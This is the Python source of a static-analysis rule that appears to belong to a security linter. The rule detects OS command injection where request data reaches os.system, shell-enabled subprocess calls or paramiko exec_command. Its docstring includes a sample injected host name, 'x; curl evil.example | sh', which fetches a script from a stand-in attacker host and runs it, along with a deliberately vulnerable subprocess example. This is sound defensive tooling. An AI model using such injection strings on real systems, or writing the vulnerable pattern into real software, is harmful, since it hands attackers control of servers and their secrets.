"""FHQ003: commands put together of text."""

from __future__ import annotations

import ast
from collections.abc import Iterator

from ...composition.ingredients import Composition
from ...composition.serving import is_command
from ...composition.sinks import shown
from ...composition.sources import Sources
from ...composition.way import way
from ...finding import Confidence, Severity
from ...rule import Hit, rule
from ...snapshot import Snapshot
from ...source.facts import Call, Value

_SHELLS = frozenset(
    {"os.system", "os.popen", "os.popen2", "os.popen3", "os.popen4", "commands.getoutput", "commands.getstatusoutput",
     "subprocess.getoutput", "subprocess.getstatusoutput", "asyncio.create_subprocess_shell",
     "asyncio.subprocess.create_subprocess_shell", "popen2.popen2", "popen2.popen3", "pexpect.run", "pexpect.spawn"}
)  # fmt: skip
"""Functions whose first argument a shell, or something like one, takes apart."""
_RUNNERS = frozenset(
    {f"{package}.{name}" for package in ("subprocess", "subprocess32", "gevent.subprocess", "eventlet.green.subprocess")
     for name in ("run", "call", "check_call", "check_output", "Popen")}
)  # fmt: skip
_PROGRAMS = frozenset(
    {
        f"os.{name}"
        for name in ("execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp", "execvpe", "startfile")
    }
    | {"asyncio.create_subprocess_exec", "asyncio.subprocess.create_subprocess_exec"}
)
_REMOTE = "paramiko.SSHClient().exec_command"


@rule(
    code="FHQ003",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(78,),
    owasp=("A03",),
    asvs=("1.2.5",),
)
def built_commands(snapshot: Snapshot) -> Iterator[Hit]:
    """A shell is given a command that is put together, or the request names the program to run.

    ## What it does
    Reports `os.system`, `os.popen`, `subprocess` with `shell=True`, `create_subprocess_shell`, paramiko's
    `exec_command` and their like with a command that is no constant, and programs whose name comes from the
    request. Commands of constants, numbers and what `shlex.quote` returned are no findings, and neither are lists
    of arguments without a shell.

    ## Why is this bad
    The shell reads `;`, `|`, `$( )` and line breaks wherever they come from. A host name to ping such as
    `x; curl evil.example | sh` hands over the server, with every secret the app can read.

    ## Example
    ```python
    subprocess.run(f"ping -c 1 {request.args['host']}", shell=True)
    ```

    ## Use instead
    ```python
    subprocess.run(["ping", "-c", "1", "--", host], check=True, timeout=5)
    ```

    ## References
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    - [OWASP OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
    - [Python: Security Considerations of subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
    """
    sources = Sources(snapshot.source)
    for call in snapshot.source.calls(*_SHELLS, *_RUNNERS, *_PROGRAMS, _REMOTE, "?.exec_command"):
        value = next(
            (found for name in ("args", "cmd", "command") if (found := call.keywords.get(name))), call.argument(0)
        )
        if value is None or value.known:
            continue
        command, in_shell = _command(call, value)
        composition = sources.compose(value, call) if command is value.node else sources.compose_node(command, call)
        if composition.requested:
            how = "A shell takes apart a command" if in_shell else "The program to run"
            yield Hit(
                message=f"{how} given to {shown(call)} that holds data of the request."
                if in_shell
                else f"{how} given to {shown(call)} is chosen by the request.",
                fix="Give a list of arguments without a shell, and choose the program yourself.",
                location=call.location,
                trace=way(call, composition),
            )
        elif in_shell and composition.ingredients and not is_command(call.function):
            yield _uncertain(call, composition)


def _command(call: Call, value: Value) -> tuple[ast.expr, bool]:
    """Return what decides which program runs, and whether a shell takes it apart."""
    if call.target in _SHELLS or call.name == "exec_command":
        return value.node, True
    shell = call.keywords.get("shell")
    in_shell = shell is not None and (shell.constant is True or shell.constant == 1)
    node = value.node
    if not in_shell and isinstance(node, ast.List | ast.Tuple) and node.elts:
        # `["sh", "-c", command]` is a shell too.
        texts = [item.value if isinstance(item, ast.Constant) else None for item in node.elts]
        if len(texts) == 3 and texts[1] in {"-c", "/c", "-lc"} and str(texts[0]).rpartition("/")[2] in _SHELL_NAMES:
            return node.elts[2], True
        return node.elts[0], False
    return node, in_shell


_SHELL_NAMES = frozenset({"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell"})


def _uncertain(call: Call, composition: Composition) -> Hit:
    if composition.parameter:
        what, severity, confidence = "a parameter of the function", Severity.HIGH, Confidence.MEDIUM
    else:
        what, severity, confidence = "text whose origin is not known", Severity.MEDIUM, Confidence.LOW
    return Hit(
        message=f"A shell takes apart a command given to {shown(call)} that holds {what}.",
        fix="Give a list of arguments without a shell, or quote each with shlex.quote.",
        location=call.location,
        trace=way(call, composition),
        severity=severity,
        confidence=confidence,
    )
